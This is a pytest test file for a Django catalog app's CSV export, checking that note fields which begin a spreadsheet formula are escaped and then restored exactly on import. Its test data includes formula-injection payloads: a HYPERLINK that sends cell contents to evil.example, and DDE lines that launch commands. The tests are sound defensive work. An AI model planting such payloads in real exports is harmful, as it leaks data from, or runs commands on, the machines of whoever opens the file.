"""The CSV export cannot smuggle a spreadsheet formula, and import_matrix reads it back exactly."""

import csv
import io

import pytest
from django.urls import reverse

from models_catalog.exports import (
    from_spreadsheet_safe,
    matrix_csv,
    spreadsheet_safe,
    stream_matrix_csv,
)
from models_catalog.importers import import_matrix, parse_csv
from models_catalog.models import AIModel, Assessment, Feature
from tests.factories import AIModelFactory, AssessmentFactory, FeatureFactory

pytestmark = pytest.mark.django_db

HOSTILE_NOTES = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''two apostrophes",
    "'tis a plain apostrophe",
    "plain note = fine",
    "",
]


def parsed_export(client):
    response = client.get(reverse("models_catalog:matrix_export_csv"))
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("note", HOSTILE_NOTES)
def test_no_exported_cell_starts_a_spreadsheet_formula(client, note):
    AssessmentFactory(note=note)

    (row,) = parsed_export(client)

    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert from_spreadsheet_safe(row["note"]) == note


@pytest.mark.parametrize("note", HOSTILE_NOTES)
def test_escaping_round_trips_exactly(note):
    assert from_spreadsheet_safe(spreadsheet_safe(note)) == note


def test_a_formula_note_is_exported_as_quoted_text(client):
    AssessmentFactory(note="=1+1")

    (row,) = parsed_export(client)

    assert row["note"] == "'=1+1"


def test_an_apostrophe_someone_typed_in_a_csv_is_kept_on_import():
    assert from_spreadsheet_safe("'tis") == "'tis"
    assert from_spreadsheet_safe("'=x") == "=x"


def test_export_then_import_restores_hostile_notes_exactly(client):
    model = AIModelFactory(slug="m")
    features = [FeatureFactory(slug=f"f{i}") for i in range(len(HOSTILE_NOTES))]
    for feature, note in zip(features, HOSTILE_NOTES, strict=True):
        AssessmentFactory(model=model, feature=feature, note=note)
    exported = matrix_csv(AIModel.objects.all(), Feature.objects.select_related("group"))
    Assessment.objects.update(note="changed by someone")

    import_matrix(parse_csv(exported))

    notes = dict(Assessment.objects.values_list("feature__slug", "note"))
    assert notes == {f.slug: note for f, note in zip(features, HOSTILE_NOTES, strict=True)}
    assert not import_matrix(parse_csv(exported)).changed


def test_streamed_export_is_escaped_the_same_way():
    AssessmentFactory(note="@SUM(A1)")
    models = AIModel.objects.all()
    features = Feature.objects.select_related("group")

    streamed = "".join(stream_matrix_csv(models, features))

    assert streamed == matrix_csv(models, features)
    assert "'@SUM(A1)" in streamed
